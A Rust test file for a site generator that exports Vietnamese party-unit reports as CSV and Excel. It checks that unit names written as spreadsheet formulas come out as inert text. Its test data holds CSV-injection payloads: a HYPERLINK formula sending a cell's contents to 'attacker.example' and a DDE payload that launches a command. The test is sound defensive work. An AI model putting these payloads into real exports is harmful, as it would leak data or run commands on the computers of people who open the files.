//! Unit names come from pull requests: a name written as a spreadsheet formula
//! (`=HYPERLINK(…)`, `@SUM(…)`) must reach the form 02 CSV and workbook as inert text, with
//! the leading apostrophe OWASP recommends, never as a formula a cadre's Excel would run.

mod common;

use std::io::Read;
use std::path::Path;

use common::TempSite;
use common::office::parse_csv;

const HOSTILE_NAMES: [&str; 3] =
    ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"Bấm\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+84 912"];

/// The minimal site with its two lower units renamed to formulas, built.
fn built_with_hostile_names() -> TempSite {
    let site = TempSite::minimal();
    let mut units = site.read("content/to-chuc.yml");
    for (old, new) in
        [("Chi bộ Phòng Ngân sách", HOSTILE_NAMES[0]), ("Chi bộ Trung tâm Kiểm soát bệnh tật tỉnh", HOSTILE_NAMES[1])]
    {
        units = units.replace(&format!("\"{old}\""), &format!("'{}'", new.replace('\'', "''")));
    }
    units = units.replace("\"Đảng bộ Sở Tài chính\"", &format!("\"{}\"", HOSTILE_NAMES[2]));
    site.write("content/to-chuc.yml", &units);
    let run = site.run(&["build"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    site
}

/// The first form 02 file with `extension` in the built site.
fn form02_file(site: &TempSite, extension: &str) -> std::path::PathBuf {
    let folder = site.dir.join("public/tong-hop/2023/ca-nam");
    folder.join(format!("tong-hop-2023-ca-nam.{extension}"))
}

#[test]
fn formula_unit_names_are_inert_text_in_the_form02_csv() {
    let site = built_with_hostile_names();
    let rows = parse_csv(&std::fs::read_to_string(form02_file(&site, "csv")).unwrap());
    let name = rows[0].iter().position(|h| h == "name").unwrap();
    let names: Vec<&str> = rows.iter().skip(1).map(|r| r[name].as_str()).collect();
    for hostile in &HOSTILE_NAMES {
        assert!(names.contains(&format!("'{hostile}").as_str()), "{hostile} not neutralised in {names:?}");
    }
    assert!(rows.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{rows:?}");
}

#[test]
fn formula_unit_names_are_inert_text_in_the_form02_workbook() {
    let site = built_with_hostile_names();
    let text = workbook_text(&form02_file(&site, "xlsx"));
    for hostile in &HOSTILE_NAMES {
        let escaped = hostile.replace('&', "&amp;").replace('"', "&quot;").replace('\'', "&apos;");
        let plain = hostile.replace('&', "&amp;");
        assert!(
            text.contains(&format!("&apos;{escaped}")) || text.contains(&format!("'{plain}")),
            "{hostile} not neutralised in the workbook"
        );
        assert!(!text.contains(&format!(">{plain}<")), "{hostile} written raw in the workbook");
    }
}

/// Every XML part of an `.xlsx` file, concatenated.
fn workbook_text(file: &Path) -> String {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(file).unwrap()).unwrap();
    let mut text = String::new();
    for i in 0..archive.len() {
        archive.by_index(i).unwrap().read_to_string(&mut text).unwrap();
    }
    text
}
